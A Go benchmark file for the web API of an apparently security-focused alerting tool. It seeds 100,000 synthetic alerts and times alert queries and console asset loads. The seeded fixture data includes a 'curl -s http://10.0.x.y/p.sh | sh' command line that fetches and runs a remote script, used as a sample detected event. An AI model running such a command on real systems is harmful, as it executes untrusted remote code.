package web

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"testing"
	"time"

	"github.com/vigilhq/vigil"
	"github.com/vigilhq/vigil/control"
	"github.com/vigilhq/vigil/state"
)

// seedAlerts commits n alerts over 100 hosts and 50 rules, each with the
// matched event's fields, as detection would; every tenth is acknowledged.
func seedAlerts(tb testing.TB, db *state.DB, n int) {
	tb.Helper()
	ctx := context.Background()
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	const batch = 5000
	for start := 0; start < n; start += batch {
		var as []vigil.Alert
		for i := start; i < min(n, start+batch); i++ {
			as = append(as, vigil.Alert{
				RuleID: fmt.Sprintf("rule-%02d", i%50), RuleTitle: fmt.Sprintf("Rule %d", i%50), Level: vigil.LevelHigh,
				HostID: fmt.Sprintf("host-%03d", i%100), Hostname: fmt.Sprintf("web-%03d", i%100),
				EventID: fmt.Sprintf("ev-%07d", i), EventTable: "process_creation",
				EventTime: base.Add(time.Duration(i) * time.Second),
				Fields: map[string]any{"process_pid": int64(1000 + i), "process_name": "sh", "user_name": "root",
					"process_command_line": fmt.Sprintf("curl -s http://10.0.%d.%d/p.sh | sh", i%250, i%200),
					"process_executable":   "/usr/bin/sh", "process_parent_pid": int64(1), "hostname": fmt.Sprintf("web-%03d", i%100)},
			})
		}
		if _, err := db.CommitAlerts(ctx, "seed", "process_creation", int64(start+len(as)), as); err != nil {
			tb.Fatal(err)
		}
	}
	page, err := db.ListAlerts(ctx, state.AlertFilter{Limit: state.MaxAlertLimit})
	if err != nil {
		tb.Fatal(err)
	}
	for i := 0; i < len(page); i += 10 {
		if err := db.SetAlertStatus(ctx, page[i].ID, vigil.AlertAcknowledged, "alice", ""); err != nil {
			tb.Fatal(err)
		}
	}
}

// BenchmarkAlertList100k times GET /api/v1/alerts (handler, SQLite state,
// JSON encoding; no TLS) with 100,000 alerts in state.
func BenchmarkAlertList100k(b *testing.B) {
	db, err := state.Open(context.Background(), filepath.Join(b.TempDir(), "state.db"), nil)
	if err != nil {
		b.Fatal(err)
	}
	defer db.Close()
	ctl, err := control.New(control.Options{State: db, EnrollSecret: enrollSecret})
	if err != nil {
		b.Fatal(err)
	}
	defer ctl.Close()
	api := New(Options{State: db, Control: ctl, BadAuthLimit: 1 << 20})
	tok, err := db.CreateToken(context.Background(), "bench", "viewer")
	if err != nil {
		b.Fatal(err)
	}
	t0 := time.Now()
	seedAlerts(b, db, 100_000)
	b.Logf("seeded 100,000 alerts in %s", time.Since(t0).Round(time.Millisecond))
	for _, c := range []struct{ name, query string }{
		{"newest100", "limit=100"},
		{"open100", "status=open&limit=100"},
		{"acknowledged100", "status=acknowledged&limit=100"},
		{"host100", "host=web-042&limit=100"},
		{"rule100", "rule=rule-07&limit=100"},
		{"hostAndRuleNone", "host=web-042&rule=rule-07&limit=100"}, // 42 mod 50 never meets 7: a full scan
		{"newest1000", "limit=1000"},
		{"page500of1000", "before=50000&limit=100"}, // keyset: a deep page costs what the first does
	} {
		b.Run(c.name, func(b *testing.B) {
			var size int
			for b.Loop() {
				rec := httptest.NewRecorder()
				req := httptest.NewRequest("GET", "/api/v1/alerts?"+c.query, nil)
				req.Header.Set("Authorization", "Bearer "+tok)
				api.Handler().ServeHTTP(rec, req)
				if rec.Code != http.StatusOK {
					b.Fatalf("%s: %d %s", c.query, rec.Code, rec.Body)
				}
				size = rec.Body.Len()
			}
			b.ReportMetric(float64(size), "bytes/resp")
		})
	}
}

// BenchmarkConsoleAssets times serving the console's files (what a page
// load fetches before the first API call).
func BenchmarkConsoleAssets(b *testing.B) {
	h := consoleHandler()
	files := []string{"/", "/style.css", "/app.js", "/lib.js", "/hosts.js", "/query.js", "/alerts.js", "/events.js", "/rules.js", "/suppress.js", "/outputs.js", "/favicon.svg"}
	var total int
	for b.Loop() {
		total = 0
		for _, f := range files {
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, httptest.NewRequest("GET", f, nil))
			if rec.Code != 200 {
				b.Fatalf("%s: %d", f, rec.Code)
			}
			total += rec.Body.Len()
		}
	}
	b.ReportMetric(float64(total), "bytes/load")
}
